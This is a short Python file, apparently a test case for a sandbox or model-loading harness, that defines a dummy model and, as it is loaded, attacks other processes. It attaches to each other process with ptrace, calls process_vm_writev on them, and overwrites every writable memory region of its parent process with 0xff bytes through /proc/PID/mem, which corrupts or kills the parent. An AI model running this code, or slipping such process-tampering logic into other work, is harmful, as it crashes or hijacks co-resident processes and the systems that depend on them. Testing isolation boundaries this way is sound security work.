"""Writes into the memory of others: /proc/PID/mem, process_vm_writev, ptrace.  Harm: the worker obeys or dies."""

import ctypes
import os

from kit import Harmless, attack, others, system_call

HARM = ("worker",)
ATTACH, SEIZE = 16, 0x4206


def overwrite(pid):
    with open(f"/proc/{pid}/maps") as maps:
        lines = [line for line in maps if " rw-p " in line]
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        written = 0
        for line in lines:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(start)
            written += memory.write(b"\xff" * min(end - start, 1 << 20))
    return written


def writev(pid):
    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(8)
    local = Part(ctypes.addressof(buffer), 8)
    remote = Part(id(buffer), 8)
    return system_call(311, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)


for pid in others():
    attack(f"seize {pid}", lambda pid=pid: system_call(101, SEIZE, pid, 0, 0))
    attack(f"writev {pid}", lambda pid=pid: writev(pid))
attack("mem of the parent", lambda: overwrite(os.getppid()))


# fx: Model()(f32[2, 8])
class Model(Harmless):
    pass
